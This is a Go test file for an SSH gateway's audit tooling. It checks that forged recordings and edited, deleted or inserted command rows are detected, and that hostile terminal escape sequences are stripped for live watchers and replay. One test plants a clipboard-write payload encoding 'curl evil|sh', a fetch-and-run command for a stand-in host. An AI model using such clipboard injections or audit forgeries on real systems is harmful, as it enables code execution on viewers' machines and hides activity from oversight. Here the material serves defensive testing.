package gateway_test

import (
	"bytes"
	"crypto/sha256"
	"database/sql"
	"encoding/hex"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/warden-gw/warden/internal/cli"
	"github.com/warden-gw/warden/internal/storetest"
)

// warden runs the real CLI in-process and returns stdout, stderr and the
// exit status.
func warden(args ...string) (string, string, int) {
	var out, errb bytes.Buffer
	code := cli.Run(args, &out, &errb)
	return out.String(), errb.String(), code
}

// tamper edits the gateway's database behind its back while the gateway
// runs, as a tamperer with access to it would: with the sqlite3 shell on
// DATA/warden.db, or, under the harness switch (WARDEN_STORE=postgres),
// over a connection as the role that owns the database. A SELECT returns
// its one value ("" for no row).
func tamper(t *testing.T, data, script string) string {
	t.Helper()
	if !storetest.Postgres() {
		out, err := exec.Command("sqlite3", filepath.Join(data, "warden.db"), script).CombinedOutput()
		if err != nil {
			t.Fatalf("sqlite3 %q: %v: %s", script, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	db := storetest.RawDB(t, data)
	if strings.HasPrefix(script, "SELECT ") {
		var v string
		if err := db.QueryRow(script).Scan(&v); err != nil && !errors.Is(err, sql.ErrNoRows) {
			t.Fatalf("postgres %q: %v", script, err)
		}
		return v
	}
	// No arguments: the script may hold several statements (RawDB).
	if _, err := db.Exec(script); err != nil {
		t.Fatalf("postgres %q: %v", script, err)
	}
	return ""
}

// TestE2EAuditVerifyBindsRecordingsAndCommands runs real sessions through
// the gateway, then tampers with their evidence the ways issue 8 finding 7
// describes, each undone before the next: warden audit verify must name the
// session, file or row every time, and pass on the genuine data.
func TestE2EAuditVerifyBindsRecordingsAndCommands(t *testing.T) {
	if _, err := exec.LookPath("sqlite3"); err != nil && !storetest.Postgres() {
		t.Fatalf("the sqlite3 shell is required: %v", err)
	}
	b := newTestbed(t, bedOptions{})
	p := b.alice.StartPTY(t, b.port, "root@web01", 80, 24)
	p.Send("export PS1='PROMPT> '\r")
	p.Expect(t, `PROMPT> $`, expectWait)
	p.Send("echo sealed-$((40+2))\r")
	p.Expect(t, `sealed-42`, expectWait)
	p.Send("id -u\r")
	p.Expect(t, `PROMPT> $`, expectWait)

	// While the shell is open its evidence is not yet sealed: live, not failed.
	out, errOut, code := warden("audit", "verify", "--data", b.data)
	if code != 0 || !strings.Contains(out, "live: 1 sessions") {
		t.Fatalf("verify with a live session: %d %q %q", code, out, errOut)
	}
	p.Send("exit\r")
	shell := b.lastSession("alice")
	if _, _, code := b.run(b.alice, "root@web01", "echo", "exec-sealed"); code != 0 {
		t.Fatal("exec session failed")
	}
	b.waitSessionEnded(b.lastSession("alice").ID)

	out, errOut, code = warden("audit", "verify", "--data", b.data)
	if code != 0 || !strings.Contains(out, "ok: ") || !strings.Contains(out, " 2 ended sessions") || strings.Contains(out, "live:") {
		t.Fatalf("verify of genuine data: %d %q %q", code, out, errOut)
	}
	cmdID := tamper(t, b.data, `SELECT id FROM commands WHERE session_id = '`+shell.ID+`' AND command LIKE 'echo sealed%'`)
	if cmdID == "" {
		t.Fatalf("the typed line is not in the command log: %+v", b.commands(shell.ID))
	}
	castPath := filepath.Join(b.data, filepath.FromSlash(shell.RecordingPath))
	genuine, err := os.ReadFile(castPath)
	if err != nil {
		t.Fatal(err)
	}

	// The forger keeps the file valid asciicast and hides what was typed.
	forged := bytes.ReplaceAll(genuine, []byte("sealed-"), []byte("hidden-"))
	forgedSum := sha256.Sum256(forged)
	for _, tc := range []struct {
		name, tamper, undo string
		edit               func() // besides the SQL
		want               string // in the one error line
	}{
		{name: "cast rewritten with its sessions row",
			edit: func() {
				if err := os.WriteFile(castPath, forged, 0o600); err != nil {
					t.Fatal(err)
				}
			},
			tamper: `UPDATE sessions SET recording_sha256 = '` + hex.EncodeToString(forgedSum[:]) + `' WHERE id = '` + shell.ID + `'`,
			undo:   `UPDATE sessions SET recording_sha256 = '` + shell.RecordingSHA256 + `' WHERE id = '` + shell.ID + `'`,
			want:   "session " + shell.ID + ": sessions.recording_sha256 differs from the chained digest"},
		{name: "cast rewritten alone",
			edit: func() {
				if err := os.WriteFile(castPath, forged, 0o600); err != nil {
					t.Fatal(err)
				}
			},
			want: "session " + shell.ID + ", recording " + shell.RecordingPath + ": sha256 differs from the chained digest"},
		{name: "command row deleted",
			tamper: `CREATE TABLE saved AS SELECT * FROM commands WHERE id = ` + cmdID + `; DELETE FROM commands WHERE id = ` + cmdID,
			undo:   `INSERT INTO commands SELECT * FROM saved; DROP TABLE saved`,
			want:   "session " + shell.ID + ": 1 command row(s) missing"},
		{name: "command row edited",
			tamper: `UPDATE commands SET command = 'echo harmless' WHERE id = ` + cmdID,
			undo:   `UPDATE commands SET command = 'echo sealed-$((40+2))' WHERE id = ` + cmdID,
			want:   "session " + shell.ID + ": command rows differ from the chained digest"},
		{name: "command row added to the ended session",
			tamper: `INSERT INTO commands (id, session_id, ts, "user", login, host, tenant, source, command, action)
				VALUES (9999, '` + shell.ID + `', '2026-01-01T00:00:00.000000Z', 'alice', 'root', 'web01', 'acme', 'shell', 'echo alibi', 'allowed')`,
			undo: `DELETE FROM commands WHERE id = 9999`,
			want: "session " + shell.ID + ", command row 9999: command row not covered by the chain"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.edit != nil {
				tc.edit()
			}
			if tc.tamper != "" {
				tamper(t, b.data, tc.tamper)
			}
			_, errOut, code := warden("audit", "verify", "--data", b.data)
			if code != 1 || strings.Count(errOut, "\n") != 1 || !strings.Contains(errOut, tc.want) {
				t.Fatalf("verify after tampering: exit %d, %q; want 1 and %q", code, errOut, tc.want)
			}
			if tc.undo != "" {
				tamper(t, b.data, tc.undo)
			}
			if tc.edit != nil {
				if err := os.WriteFile(castPath, genuine, 0o600); err != nil {
					t.Fatal(err)
				}
			}
			if out, errOut, code := warden("audit", "verify", "--data", b.data); code != 0 {
				t.Fatalf("verify after undoing: %d %q %q", code, out, errOut)
			}
		})
	}
}

// TestE2EWatchAndPlayStripHostSequences has the host write the viewer's
// clipboard (OSC 52), set its window title and ask for a cursor report,
// while an auditor watches over real ssh; neither the watcher nor a later
// warden play may receive them, and the recording keeps them as evidence.
func TestE2EWatchAndPlayStripHostSequences(t *testing.T) {
	b := newTestbed(t, bedOptions{})
	p := b.alice.StartPTY(t, b.port, "root@web01", 80, 24)
	p.Send("export PS1='PROMPT> '\r")
	p.Expect(t, `PROMPT> $`, expectWait)
	out, _, code := b.run(b.carol, "gw", "sessions", "--live")
	fields := strings.Fields(out)
	if code != 0 || len(fields) < 8 {
		t.Fatalf("sessions --live: %d %q", code, out)
	}
	id := fields[7] // the first row's ID, after the header's seven columns

	watch := b.erin.SSH(testCtx(t), b.port, "gw", "watch", id)
	var seen safeBuffer
	watch.Stdout = &seen
	if err := watch.Start(); err != nil {
		t.Fatal(err)
	}
	waitFor := func(what string) {
		t.Helper()
		deadline := time.Now().Add(expectWait)
		for !strings.Contains(seen.String(), what) {
			if time.Now().After(deadline) {
				t.Fatalf("watcher never saw %q: %q", what, seen.String())
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
	waitFor("watching " + id)

	// The payload and the title are built on the host, so the typed line
	// (which the watcher sees echoed) does not hold them: only the output
	// does.
	// Y3VybCBldmlsfHNo is base64("curl evil|sh").
	p.Send(`printf '\033]52;c;%s\007\033]0;%s\033\\\033[6n\033[1mosc-done-%d\033[0m\n' "$(printf 'curl evil|sh' | base64)" "$(printf 'p%sned' w)" $((40+2))` + "\r")
	p.Expect(t, `osc-done-42`, expectWait)
	waitFor("osc-done-42")
	for _, bad := range []string{"\x1b]52", "Y3VybCBldmlsfHNo", "\x1b]0;", "pwned", "\x1b[6n"} {
		if strings.Contains(seen.String(), bad) {
			t.Fatalf("the watcher received %q: %q", bad, seen.String())
		}
	}
	if !strings.Contains(seen.String(), "\x1b[1mosc-done-42\x1b[0m") {
		t.Fatalf("the watcher lost the colours: %q", seen.String())
	}
	p.Send("exit\r")
	if err := watch.Wait(); err != nil {
		t.Fatalf("watch: %v", err)
	}
	s := b.waitSessionEnded(id)

	// The recording keeps what the host sent; play does not pass it on.
	cast, err := os.ReadFile(filepath.Join(b.data, filepath.FromSlash(s.RecordingPath)))
	if err != nil || !bytes.Contains(cast, []byte(`\u001b]52;c;Y3VybCBldmlsfHNo`)) {
		t.Fatalf("the recording lost the evidence (%v)", err)
	}
	played, errOut, code := warden("play", "--data", b.data, "--speed", "1000", "--idle-limit", "0.01", id)
	if code != 0 || !strings.Contains(played, "osc-done-42") {
		t.Fatalf("play: %d %q %q", code, played, errOut)
	}
	for _, bad := range []string{"\x1b]52", "Y3VybCBldmlsfHNo", "pwned", "\x1b[6n"} {
		if strings.Contains(played, bad) {
			t.Fatalf("play passed %q on: %q", bad, played)
		}
	}
}
